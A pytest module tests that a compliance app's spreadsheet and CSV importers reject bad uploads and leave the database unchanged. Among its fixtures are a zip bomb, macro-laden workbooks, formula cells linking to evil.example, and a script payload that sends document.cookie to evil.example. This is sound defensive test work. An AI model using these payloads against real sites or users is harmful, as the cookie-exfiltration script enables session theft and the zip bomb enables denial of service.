"""The bad-input corpus: every malformed file gets its message (with row and column) and leaves the database as it was.

Small files live in tests/corpus/; binary, huge and generated ones are built below so the repository stays small.
"""

import io
import random
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from sqlalchemy import Engine, select
from sqlmodel import SQLModel

import manage
from services.core.permissions import ValidationError
from services.imports.answers import apply_responses, preview_responses
from services.imports.partners import apply_partners, preview_partners
from tests import bombs
from tests.conftest import ANALYST
from tests.test_answer_import import make_collection, store
from tests.test_tabular import xlsx_bytes
from tests.xls_files import encrypted_ooxml
from tests.xls_files import formula as xls_formula
from tests.xls_files import label as xls_label
from tests.xls_files import workbook as xls_workbook

CORPUS = Path(__file__).parent / "corpus"
HEADER = "partner_code,criterion_id,answer,comment\n"


def _zip(entries: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _answers_workbook(rows: list[list]) -> bytes:
    return xlsx_bytes({"Instructions": [["Fill in column answer"]],
                      "Answers": [["partner_code", "criterion_id", "answer", "comment"], *rows]})


GENERATED: dict[str, Callable[[], bytes]] = {
    "binary_garbage.csv": lambda: random.Random(7).randbytes(4096),
    "macros.xlsm": lambda: _zip({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>",
                                 "xl/vbaProject.bin": b"\xd0\xcf\x11\xe0 macro"}),
    "macros_renamed.xlsx": lambda: _zip({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>",
                                         "xl/vbaProject.bin": b"\xd0\xcf\x11\xe0 macro"}),
    "old_format.xls": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2048),
    "zip_not_workbook.xlsx": lambda: _zip({"report.pdf": b"%PDF-1.7"}),
    "truncated.xlsx": lambda: _answers_workbook([["SUP001", "1.1", "yes", ""]])[:700],
    "huge_cell.csv": lambda: (HEADER + "SUP001,1.1,no," + "A" * 100_000 + "\n").encode(),
    "long_comment.csv": lambda: (HEADER + "SUP001,1.1,no," + "Seal log kept. " * 300 + "\n").encode(),
    "ten_thousand_columns.csv": lambda: (",".join(f"col{i}" for i in range(10_000)) + "\n"
                                         + ",".join("x" for _ in range(10_000)) + "\n").encode(),
    "ten_thousand_columns.xlsx": lambda: xlsx_bytes({"Answers": [[f"col{i}" for i in range(10_000)]]}),
    "formula_hyperlink.xlsx": lambda: _answers_workbook([["SUP001", "1.1", "no",
                                                          '=HYPERLINK("http://evil.example","policy")']]),
    "empty_sheet.xlsx": lambda: xlsx_bytes({"Answers": []}),
    "instructions_only.xlsx": lambda: xlsx_bytes({"Instructions": [["Read me"]]}),
    "formula.ods": lambda: bombs.ods(
        bombs.ods_row("partner_code", "criterion_id", "answer", "comment")
        + b'<table:table-row><table:table-cell office:value-type="string"><text:p>SUP001</text:p></table:table-cell>'
          b'<table:table-cell office:value-type="string"><text:p>1.1</text:p></table:table-cell><table:table-cell '
          b'office:value-type="string"><text:p>no</text:p></table:table-cell><table:table-cell table:formula='
          b'"of:=HYPERLINK(&quot;http://evil.example&quot;;&quot;policy&quot;)" office:value-type="string" '
          b'office:string-value="policy"><text:p>policy</text:p></table:table-cell></table:table-row>'),
    "formula.xls": lambda: xls_workbook({"Answers": [
        xls_label(0, 0, "partner_code"), xls_label(0, 1, "criterion_id"), xls_label(0, 2, "answer"),
        xls_label(0, 3, "comment"), xls_label(1, 0, "SUP001"), xls_label(1, 1, "1.1"), xls_label(1, 2, "no"),
        xls_formula(1, 3, 1.0)]}),
    "password.xlsx": encrypted_ooxml,
    "password.xls": lambda: xls_workbook({"Answers": [xls_label(0, 0, "partner_code")]}, password=True),
    "macro_sheet.xls": lambda: xls_workbook({"Answers": [xls_label(0, 0, "partner_code")], "Macro1": []},
                                            sheet_types={"Macro1": 1}),
    "macros.ods": lambda: bombs.zip_parts({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet",
                                           "content.xml": b"<office:document-content/>",
                                           "Basic/Standard/Module1.xml": b"<script:module/>"}),
    "zip_bomb.xlsx": lambda: bombs.understated(bombs.unpacked_bomb(1_000_000), "xl/worksheets/sheet1.xml",
                                               1_600_000_000),
    "every_row_and_column.xlsx": bombs.sparse_corners,
    "ten_thousand_columns.ods": lambda: bombs.ods(bombs.ods_row(*(f"col{i}" for i in range(10_000)))),
}

# file -> (importer, distinctive part of the message, row, column); row None = the file as a whole.
EXPECTED: dict[str, tuple[str, str, int | None, str]] = {
    "empty.csv": ("responses", "The file is empty.", None, ""),
    "blank_lines.csv": ("responses", "The file is empty.", None, ""),
    "header_only.csv": ("responses", "header row but no data rows", 1, ""),
    "wrong_columns.csv": ("responses", "No 'partner_code' column", 1, ""),
    "missing_answer_column.csv": ("responses", "Column 'answer' is missing", 1, ""),
    "binary_garbage.csv": ("responses", "it contains binary data", None, ""),
    "not_a_zip.xlsx": ("responses", "named like a spreadsheet but is not one", None, ""),
    "macros.xlsm": ("responses", "contains macros (.xlsm)", None, ""),
    "macros_renamed.xlsx": ("responses", "contains macros (.xlsm)", None, ""),
    "old_format.xls": ("responses", "damaged Excel 97-2003 (.xls) workbook", None, ""),
    "zip_not_workbook.xlsx": ("responses", "zip archive but not an Excel workbook", None, ""),
    "truncated.xlsx": ("responses", "damaged zip/Excel file", None, ""),
    "huge_cell.csv": ("responses", "100,000 characters; at most 32,767", 2, "comment"),
    "long_comment.csv": ("responses", "longer than 4,000 characters", 2, "comment"),
    "ten_thousand_columns.csv": ("responses", "10,000 columns; at most 1,000", 1, ""),
    "ten_thousand_columns.xlsx": ("responses", "10,000 columns; at most 1,000", 1, ""),
    "formula_hyperlink.xlsx": ("responses", "Formulas are not accepted", 2, "comment"),
    "formula_text.csv": ("responses", "Formulas are not accepted", 2, "comment"),
    "empty_sheet.xlsx": ("responses", "Sheet 'Answers' is empty", None, ""),
    "instructions_only.xlsx": ("responses", "no sheet to read", None, ""),
    "unknown_partner.csv": ("responses", "Unknown partner code 'ZZ999'", 2, "partner_code"),
    "wrong_answer.csv": ("responses", "'maybe' is not an answer", 3, "answer"),
    "semicolon_cp1252_wrong_answer.csv": ("responses", "'quizás' is not an answer", 3, "respuesta"),
    "mixed_encodings.csv": ("responses", "mixes text encodings: row 2 is UTF-8 but row 3 is not", 3, ""),
    "undefined_bytes.csv": ("responses", "neither UTF-8 nor Windows-1252", 2, ""),
    "duplicate_conflict.csv": ("responses", "answered twice differently ('yes' and 'no')", 3, "answer"),
    "ambiguous_4_1.csv": ("responses", "4.1 appears twice for partner SUP001 (rows 2 and 4)", 2, "criterion_id"),
    "ambiguous_wide.csv": ("responses", "Two columns are headed 4.1 and none 4.10", 1, "4.1"),
    "not_applicable.csv": ("responses", "does not apply to Customs Broker partners", 2, "criterion_id"),
    "unknown_criterion.csv": ("responses", "Unknown criterion id '99.9'", 2, "criterion_id"),
    "accepted_changed.csv": ("responses", "is accepted; this file would change 1 of its answers. Reopen it first",
                             2, "answer"),
    "exempt_changed.csv": ("responses", "is exempt", 2, "answer"),
    "bad_date.csv": ("responses", "'31/12/2024' is not a date", 2, "answered_on"),
    "future_date.csv": ("responses", "2999-01-01 is in the future", 2, "answered_on"),
    "impossible_date.csv": ("responses", "'2024-13-45' is not a valid date", 2, "answered_on"),
    "no_without_comment.csv": ("responses", "A comment is required when the answer is 'no'", 2, "comment"),
    "comment_without_answer.csv": ("responses", "The answer is empty but a comment is given", 2, "answer"),
    "ragged_row.csv": ("responses", "Row 3 has 5 cells but the header has 4", 3, ""),
    "unclosed_quote.csv": ("responses", "double quote opened in row 2 is never closed", 2, ""),
    "not_in_cycle.csv": ("responses", "OUT001 has no questionnaire in cycle", 2, "partner_code"),
    "empty_partner_code.csv": ("responses", "The partner code is empty", 2, "partner_code"),
    "wide_plain_comment.csv": ("responses", "must name its criterion, e.g. 'comment 4.10'", 1, "comment"),
    "two_partner_columns.csv": ("responses", "More than one column could be 'partner_code'", 1,
                                "partner_code, vendor code"),
    "comment_column_without_answer_column.csv": ("responses", "has no answer column '4.10'", 1, "comment 4.10"),
    "partners_bad_country.csv": ("partners", "'Narnia' is not a country", 2, "country"),
    "partners_bad_identifier.csv": ("partners", "must start with the partner's country code CN", 2, "mid"),
    "partners_duplicate_code.csv": ("partners", "Partner code N-3 is already used in row 2", 3, "partner_code"),
    "partners_missing_code_column.csv": ("partners", "No partner code column", 1, ""),
    "partners_unknown_parent.csv": ("partners", "No partner with code NOPE-9", 2, "parent_code"),
    "big5_wrong_answer.csv": ("responses", "'也許' is not an answer", 3, "answer"),
    "shift_jis_no_without_comment.csv": ("responses", "A comment is required when the answer is 'no'", 3, "comment"),
    "gbk_unknown_partner.csv": ("responses", "Unknown partner code 'ZZ999'", 2, "partner_code"),
    "formula.ods": ("responses", "Formulas are not accepted", 2, "comment"),
    "formula.xls": ("responses", "Formulas are not accepted", 2, "comment"),
    "password.xlsx": ("responses", "password-protected (encrypted)", None, ""),
    "password.xls": ("responses", "password-protected (encrypted)", None, ""),
    "macro_sheet.xls": ("responses", "Excel 4.0 macro sheet", None, ""),
    "macros.ods": ("responses", "contains macros", None, ""),
    "zip_bomb.xlsx": ("responses", "unpacks to more than 250 MB", None, ""),
    "every_row_and_column.xlsx": ("responses", "has more than 100,000 rows", None, ""),
    "ten_thousand_columns.ods": ("responses", "10,000 columns; at most 1,000", 1, ""),
}


def corpus_file(name: str) -> bytes:
    return GENERATED[name]() if name in GENERATED else (CORPUS / name).read_bytes()


def dump(engine: Engine) -> dict[str, list[tuple]]:
    """Every row of every table, in primary-key order."""
    with engine.connect() as conn:
        return {table.name: [tuple(row) for row in conn.execute(
            select(table).order_by(*table.primary_key.columns))] for table in SQLModel.metadata.sorted_tables}


@pytest.fixture
def world(session, staff):
    """The partners the corpus names: SUP001 answering, BRK001 a broker, ACC001 accepted, EXE001 exempt, OUT001
    outside the cycle."""
    collection = make_collection(session, [
        ("SUP001", "Foreign Manufacturer", "sent"), ("BRK001", "Customs Broker", "opened"),
        ("ACC001", "Importer", "accepted"), ("EXE001", "Foreign Manufacturer", "exempt"),
        ("OUT001", "Highway Carrier", None)])
    store(session, collection.assignments["ACC001"], {"1.1": ("yes", "")})
    return collection


def test_corpus_is_complete():
    on_disk = {p.name for p in CORPUS.iterdir() if p.is_file() and p.suffix != ".md"}
    assert on_disk | set(GENERATED) == set(EXPECTED)
    assert not on_disk & set(GENERATED)
    assert len(EXPECTED) >= 60


@pytest.mark.parametrize("name", sorted(EXPECTED))
def test_bad_file_gets_its_message_and_changes_nothing(name, world, session, engine):
    importer, message, row, column = EXPECTED[name]
    data = corpus_file(name)
    before = dump(engine)
    if importer == "responses":
        preview = preview_responses(session=session, files=[(name, data)], cycle_id=world.cycle_id)
        apply = apply_responses
    else:
        preview = preview_partners(session=session, files=[(name, data)])
        apply = apply_partners
    errors = preview.problems[preview.problems["severity"] == "error"]
    hits = errors[errors["message"].str.contains(message, regex=False)]
    assert len(hits), f"{name}: expected '{message}', got {errors.to_dict('records')}"
    hit = hits.iloc[0]
    assert hit["file"] == name
    assert (None if hit["row"] is None or str(hit["row"]) == "<NA>" else int(hit["row"])) == row
    assert hit["column"] == column
    with pytest.raises(ValidationError, match="nothing was imported"):
        apply(session=session, actor=ANALYST, preview=preview)
    session.rollback()
    assert dump(engine) == before


def test_html_and_script_in_comments_are_plain_text_not_errors(world, session):
    comment = "<script>document.location='http://evil.example/?c='+document.cookie</script><b>ok</b>"
    data = (HEADER + f'SUP001,1.1,no,"{comment}"\n').encode()
    preview = preview_responses(session=session, files=[("html.csv", data)], cycle_id=world.cycle_id)
    assert preview.problems.empty
    assert preview.writes["comment"].tolist() == [comment]


def test_cli_refuses_the_whole_corpus_and_writes_nothing(world, engine, database_url, monkeypatch, tmp_path,
                                                         capsys):
    monkeypatch.setenv("CTPAT_DATABASE_URL", database_url)
    paths = []
    for name in ("wrong_answer.csv", "macros.xlsm", "mixed_encodings.csv", "unknown_partner.csv"):
        path = tmp_path / name
        path.write_bytes(corpus_file(name))
        paths.append(str(path))
    good = tmp_path / "good.csv"
    good.write_bytes((HEADER + "SUP001,1.1,yes,\n").encode())
    before = dump(engine)
    assert manage.main(["import-responses", str(good), *paths]) == 2
    output = capsys.readouterr()
    assert "macros.xlsm: The workbook contains macros" in output.out
    assert "nothing was imported" in output.err
    assert dump(engine) == before
